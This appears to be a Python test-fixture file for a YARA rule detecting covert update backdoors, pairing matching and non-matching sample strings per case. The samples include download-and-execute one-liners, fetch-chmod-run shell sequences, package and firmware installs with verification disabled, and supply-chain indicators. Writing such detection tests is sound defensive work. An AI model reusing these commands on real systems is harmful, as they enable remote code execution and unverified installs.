"""Cases of ``covert_update.yar``."""

from __future__ import annotations

from tests.rules_backdoor.make import Case, case, dex, elf, pe, sh, wide

UPDATE: tuple[Case, ...] = (
    case(
        "update_mobile_fota_agent",
        (dex("Lcom/redstone/ota/ui/Main;", "com.redstone.ota.ui"), wide("com.abfota.systemUpdate")),
        (dex("com.vendor.ota.ui"), "redstone"),
    ),
    case(
        "update_fota_task_server",
        (
            dex("/fota/checkVersion.do", "silent_install", "imei", "Ljava/lang/Runtime;"),
            elf("https://in.invalid/ota/getTask", "exec_cmd", "vin=%s", "/bin/sh"),
        ),
        (
            dex("/fota/checkVersion.do", "imei", "Ljava/lang/Runtime;"),
            elf("https://in.invalid/ota/status", "exec_cmd", "vin", "/bin/sh"),
        ),
    ),
    case(
        "update_peer_to_peer",
        (
            elf("IOTC_Initialize2", "IOTC_Device_Login", "avServStart3"),
            elf("PPPP_Listen", "PPPP_Initialize"),
            elf("m1.iotcplatform.com"),
        ),
        (elf("IOTC", "Device_Login"), elf("PPP_Initialize"), elf("p2p-wifi")),
    ),
    case(
        "update_download_exec_code",
        (
            "exec(requests.get('https://in.invalid/u.py').text)\n",
            "os.system('wget -q http://in.invalid/u -O- | sh')\n",
            "<?php eval(file_get_contents('http://in.invalid/u')); ?>",
            "eval(URI.open('https://in.invalid/u.rb').read)",
        ),
        (
            "requests.get('https://in.invalid/u.json').json()\n",
            "<?php include 'http.php'; ?>",
            "eval(expression)",
        ),
    ),
    case(
        "update_fetch_chmod_run",
        (
            sh("cd /opt/app", "wget http://in.invalid/u", "chmod +x u", "./u"),
            elf("cd /tmp || cd /var/run; tftp -g -r u 9.9.9.7"),
            sh("curl -so /data/u http://in.invalid/u && chmod 755 /data/u && /data/u"),
        ),
        (
            sh("wget http://in.invalid/u", "sha256sum -c u.sum"),
            sh("chmod +x /usr/bin/tool", "/usr/bin/tool"),
            sh("cd /tmp || exit 1"),
        ),
    ),
    case(
        "update_program_download",
        (elf("wget -q -O /tmp/up %s", "chmod 777 /tmp/up", "system", "/tmp/up &"),),
        (
            elf("wget -q -O /tmp/up %s", "system"),
            elf("chmod 777 /tmp/up", "system", "GET %s HTTP/1.1"),
        ),
    ),
    case(
        "update_library_download",
        (elf("dlopen", "curl_easy_perform", "/tmp/plugin/libnew.so", "dlsym"),),
        (elf("dlopen", "curl_easy_perform", "/usr/lib/libnew.so"), elf("dlopen", "/tmp/x.so")),
    ),
    case(
        "update_package_unchecked",
        (
            sh("opkg install --force-checksum http://in.invalid/u.ipk"),
            sh("apt-get install -y --allow-unauthenticated u"),
            sh("apk add --allow-untrusted /tmp/u.apk"),
            "\nsrc/gz vendor http://9.9.9.7/packages\n",
        ),
        (
            sh("opkg install u"),
            sh("apt-get install -y u"),
            "\nsrc/gz vendor https://in.invalid/packages\n",
        ),
    ),
    case(
        "update_bundle_unchecked",
        (
            sh("rauc info --no-verify /tmp/u.raucb"),
            sh("sysupgrade -n -F /tmp/fw.bin"),
            sh("fw_setenv verify no"),
            '{"ArtifactVerifyKeys": []}',
        ),
        (
            sh("rauc install /tmp/u.raucb"),
            sh("sysupgrade -n /tmp/fw.bin"),
            '{"ArtifactVerifyKeys": ["/etc/mender/key.pem"]}',
        ),
    ),
    case(
        "update_flash_direct",
        (
            sh("tftp -g -r fw.bin host", "flashcp -v fw.bin /dev/mtd3"),
            sh("curl -so /tmp/i https://in.invalid/i", "dd if=/tmp/i of=/dev/mmcblk0p2 bs=1M"),
            sh("echo 0 > /sys/block/mmcblk0boot0/force_ro"),
        ),
        (
            sh("dd if=/dev/zero of=/tmp/swap bs=1M count=9"),
            sh("curl -so /tmp/i https://in.invalid/i"),
            "flashcp -v fw.bin /dev/mtd3",
        ),
    ),
    case(
        "update_flash_program",
        (
            elf("/dev/mtd%d", "mtd write /tmp/fw.bin firmware", "curl_easy_perform"),
            elf("fw_setenv bootcmd x", "flashcp /tmp/fw /dev/mtd2", "wget -O /tmp/fw %s"),
        ),
        (elf("/dev/mtd%d", "MEMERASE"), elf("mtd write x y", "curl_easy_perform")),
    ),
    case(
        "update_wide_management",
        (
            elf(
                "urn:dslforum-org:cwmp-1-2",
                "cwmp:Download",
                "InternetGatewayDevice.ManagementServer.ConnectionRequestURL",
            ),
            "config cwmp\n\toption acs_url 'http://in.invalid/acs'\n",
        ),
        (elf("urn:dslforum-org:cwmp-1-2"), "config x\n\toption url 'http://in.invalid/feed'\n"),
    ),
    case(
        "update_fleet_agent",
        (
            '{"ServerURL": "https://fleet.invalid", "TenantToken": "x"}',
            'globals: {\n};\nsuricatta :\n{\n\ttenant = "x";\n\turl = "https://fleet.invalid";\n};\n',
            (
                "[client]\nhawkbit_server = fleet.invalid\ntarget_token = x\n"
                "bundle_download_location = /tmp/b\n"
            ),
        ),
        (
            '{"ServerURL": "https://fleet.invalid"}',
            "globals: {\n\tverbose = true;\n};\n",
            "[client]\nauth_token = xyz\n",
        ),
    ),
    case(
        "update_device_management",
        (
            elf("syncml:metinf", "./FUMO/DownloadPkg"),
            elf("lwm2m_step", "lwm2m_configure", "object_firmware"),
        ),
        (elf("syncml:metinf", "./DevInfo/Man"), elf("lwm2m_step", "object_device")),
    ),
    case(
        "update_android_install",
        (
            dex("pm install -r /sdcard/u.apk", "https://in.invalid/u.apk"),
            dex("installPackage", "silentInstall", "Ljava/net/HttpURLConnection;"),
            wide("android.permission.INSTALL_PACKAGES") + wide("android.uid.system"),
        ),
        (
            dex("installPackage", "Ljava/net/HttpURLConnection;"),
            wide("android.permission.INSTALL_PACKAGES"),
            dex("pm list packages"),
        ),
    ),
    case(
        "update_android_dex_load",
        (
            dex(
                "Ldalvik/system/DexClassLoader;",
                "Lokhttp3/OkHttpClient;",
                "plugin.jar",
                "setExecutable",
            ),
        ),
        (
            dex("Ldalvik/system/DexClassLoader;", "plugin.jar"),
            dex("Lokhttp3/OkHttpClient;", "plugin.jar", "setExecutable"),
        ),
    ),
    case(
        "update_network_overwrite",
        (
            elf("mount -o nolock -t nfs %s:/fw /mnt", "cp -f /mnt/monitor /opt/bin/", "sync"),
            sh("mount -t cifs //files/fw /mnt", "cp /mnt/daemon /usr/sbin/", "reboot"),
        ),
        (
            sh("mount -t nfs files:/img /mnt", "cp /mnt/a.jpg /var/www/", "sync"),
            sh("cp /mnt/daemon /usr/sbin/", "reboot"),
        ),
    ),
    case(
        "update_media_script",
        (
            sh("[ -f /mnt/usb/update.sh ] &&", "  sh /mnt/usb/update.sh"),
            sh("if mount /dev/sda1 /mnt/usb; then", "  /mnt/usb/autorun.sh &", "fi"),
        ),
        (
            sh("sha256sum -c /mnt/usb/sum", "sh /mnt/usb/update.sh"),
            sh("ls /mnt/usb/update.sh"),
            sh("sh /usr/lib/vendor/update.sh"),
        ),
    ),
    case(
        "update_repository_pull",
        (
            sh("cd /opt/app", "git pull origin main", "systemctl restart app"),
            sh("docker run -d --privileged in.invalid/agent:latest"),
            "services:\n  a:\n    image: in.invalid/agent:latest\n    privileged: true\n",
        ),
        (
            sh("git log -1"),
            sh("docker run --rm in.invalid/tool"),
            "services:\n  a:\n    image: in.invalid/agent:1.2\n",
        ),
    ),
    case(
        "update_supply_chain_marks",
        (
            pe(wide("avsvmcloud.com")),
            pe("https://raw.githubusercontent.com/IconStorages/images/main/icon%d.ico"),
            pe(bytes.fromhex("25232284e49cf2cb") + bytes.fromhex("6719d8a73b90ac5b")),
        ),
        (
            pe(bytes.fromhex("25232284e49cf2cb")),
            pe("https://raw.githubusercontent.com/x/images/main/icon%d.ico"),
        ),
    ),
)
